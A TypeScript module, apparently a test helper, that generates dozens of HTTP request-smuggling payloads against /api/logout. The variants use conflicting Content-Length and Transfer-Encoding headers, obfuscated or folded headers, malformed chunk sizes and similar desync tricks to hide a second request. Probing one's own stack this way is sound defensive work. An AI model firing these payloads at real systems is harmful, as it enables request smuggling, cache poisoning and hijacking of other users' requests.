const head = (...headers: string[]) =>
  ['POST /api/logout HTTP/1.1', 'Host: x', ...headers, '', ''].join('\r\n')
const chunked = 'Transfer-Encoding: chunked'
const end = '0\r\n\r\n'

/** Lists requests that contain a hidden one. A proxy and the server behind it could disagree on where the hidden request starts. */
export function listSmugglingRequests(hidden: string): string[] {
  const length = (text: string) => `Content-Length: ${text.length}`
  const body = end + hidden
  return [
    ...[head(length(body), chunked) + body, head(chunked, 'Content-Length: 4') + body],
    ...[head('Content-Length: 0', length(hidden)) + hidden, head('Content-Length: 0, 5') + hidden],
    ...[
      head('Content-Length: +0') + hidden,
      head('Content-Length: 0x0') + hidden,
      head('Content-Length: -1') + hidden,
    ],
    ...[
      head('Content-Length : 0') + hidden,
      head('Content-Length:\v0') + hidden,
      head(' Content-Length: 0') + hidden,
    ],
    ...['xchunked', 'chunked, identity', 'identity, chunked, x', '"chunked"', '\vchunked', 'chunked\0'].map(
      (coding) => head(`Transfer-Encoding: ${coding}`, 'Content-Length: 5') + body,
    ),
    ...[
      'Transfer-Encoding : chunked',
      'Transfer-Encoding:\r\n chunked',
      'X: y\r\n\tTransfer-Encoding: chunked',
      'X: y\rTransfer-Encoding: chunked',
    ].map((folded) => head(folded, length(body)) + body),
    ...['-1', '0x0', 'ffffffffffffffffff', '0;\n', '0 ', '1\r\nab', 'G'].map(
      (size) => `${head(chunked)}${size}\r\n\r\n${hidden}`,
    ),
    head(length(hidden)) + hidden,
    `GET /api/page-content HTTP/1.1\r\nHost: x\r\n${length(hidden)}\r\n\r\n${hidden}`,
    head(length(body)).replaceAll('\r\n', '\n') + body,
    `POST /api/logout HTTP/1.1\r\nHost: x\r\nHost: y\r\nContent-Length: 0, ${hidden.length}\r\n\r\n${hidden}`,
    `POST /api/logout HTTP/0.9\r\n${length(hidden)}\r\n\r\n${hidden}`,
  ]
}
